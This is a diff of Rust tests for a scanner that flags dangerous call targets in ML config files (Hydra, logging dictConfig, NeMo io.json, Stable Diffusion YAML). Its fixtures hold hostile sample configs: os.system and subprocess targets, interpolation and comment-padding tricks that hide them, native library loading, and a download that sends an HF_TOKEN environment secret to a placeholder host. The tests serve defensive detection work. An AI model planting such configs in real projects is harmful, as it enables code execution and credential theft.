@@ -410,3 +410,99 @@ fn a_stop_keeps_the_targets_read_before_it() {
         r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
     );
 }
+
+/// The worst `config-target-call` severity of one config (`None`: no finding).
+fn worst_target(name: &str, text: &str) -> Option<Severity> {
+    targets(&scan_named(name, text.as_bytes()))
+        .into_iter()
+        .map(|t| t.0)
+        .max()
+}
+
+#[test]
+fn logging_dictconfig_factories_and_handler_classes_are_targets() {
+    let cases: &[(&str, &str, Option<Severity>)] = &[
+        (
+            "config.yaml",
+            "hydra:\n  job_logging:\n    version: 1\n    handlers:\n      x: {(): os.system, command: 'echo airlock'}\n    root: {handlers: [x]}\n",
+            Some(Severity::Critical),
+        ),
+        (
+            "logging.json",
+            r#"{"version": 1, "formatters": {"f": {"()": "subprocess.getoutput", "cmd": "echo airlock"}}}"#,
+            Some(Severity::Critical),
+        ),
+        (
+            "job_logging.yaml",
+            "version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: 'echo airlock'\n",
+            Some(Severity::Critical),
+        ),
+        // Hydra's default job logging, colorlog's formatter and the standard handlers.
+        (
+            "job_logging.yaml",
+            "version: 1\nformatters:\n  simple:\n    format: '[%(asctime)s] %(message)s'\n  colorlog:\n    (): colorlog.ColoredFormatter\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n  file:\n    class: logging.handlers.RotatingFileHandler\n    filename: run.log\n",
+            Some(Severity::Low),
+        ),
+    ];
+    for (name, text, want) in cases {
+        assert_eq!(worst_target(name, text), *want, "{text}");
+    }
+}
+
+#[test]
+fn fiddle_references_of_nemo2_io_json_are_targets() {
+    let io = r#"{"root": {"type": "ref", "key": "buildable_1"}, "objects": {"buildable_1": {"type": {"type": "pyref", "module": "os", "name": "system"}, "arguments": {"command": "echo airlock"}}}}"#;
+    assert_eq!(worst_target("io.json", io), Some(Severity::Critical));
+    let benign = r#"{"objects": {"b": {"type": {"type": "pyref", "module": "nemo.collections.llm.gpt.model.llama", "name": "LlamaModel"}}}}"#;
+    assert_eq!(worst_target("io.json", benign), None);
+}
+
+#[test]
+fn relative_list_and_decoded_interpolations_resolve() {
+    let cases = [
+        "fns: [torch.nn.ReLU, os.system]\nrun:\n  _target_: ${fns[1]}\n",
+        "fns: [torch.nn.ReLU, os.system]\nrun:\n  _target_: ${fns.1}\n",
+        "run:\n  fn: os.system\n  _target_: ${.fn}\n",
+        "outer:\n  fn: os.system\n  run:\n    _target_: ${..fn}\n",
+        "run:\n  _target_: ${oc.decode:'os.system'}\n",
+    ];
+    for text in cases {
+        assert_eq!(
+            worst_target("config.yaml", text),
+            Some(Severity::Critical),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn library_calls_are_graded_by_what_they_run() {
+    let cases: &[(&str, Option<Severity>)] = &[
+        // Real configs: a pipeline and a Hub download.
+        ("p:\n  _target_: transformers.pipeline\n  task: text-generation\n  model: gpt2\n", Some(Severity::Low)),
+        ("f:\n  _target_: huggingface_hub.hf_hub_download\n  repo_id: org/model\n  filename: config.json\n", Some(Severity::Low)),
+        // A native library loaded at instantiate time.
+        ("l:\n  _target_: torch.ops.load_library\n  path: /tmp/x.so\n", Some(Severity::Critical)),
+        // Told to run the repository's code.
+        ("m:\n  _target_: transformers.AutoModelForCausalLM.from_pretrained\n  pretrained_model_name_or_path: org/model\n  trust_remote_code: true\n", Some(Severity::Medium)),
+        // An environment secret in what a download sends.
+        ("d:\n  _target_: torch.hub.download_url_to_file\n  url: https://x.example.invalid/f?t=${oc.env:HF_TOKEN}\n  dst: /tmp/f\n", Some(Severity::High)),
+        ("c:\n  _target_: lightning.fabric.utilities.cloud_io._load\n  path_or_url: https://x.example.invalid/m.ckpt\n", Some(Severity::High)),
+    ];
+    for (text, want) in cases {
+        assert_eq!(worst_target("config.yaml", text), *want, "{text}");
+    }
+}
+
+#[test]
+fn comment_padding_and_large_sd_configs_do_not_hide_a_target() {
+    let mut yaml = format!("# {}\n", "x".repeat(9 << 20));
+    yaml.push_str("run:\n  _target_: os.system\n  _args_: ['echo airlock']\n");
+    assert_eq!(worst_target("config.yaml", &yaml), Some(Severity::Critical));
+    let mut sd = format!("# {}\n", "x".repeat(2 << 20));
+    sd.push_str("model:\n  target: os.system\n  params:\n    command: echo airlock\n");
+    assert_eq!(
+        worst_target("v1-inference.yaml", &sd),
+        Some(Severity::Critical)
+    );
+}
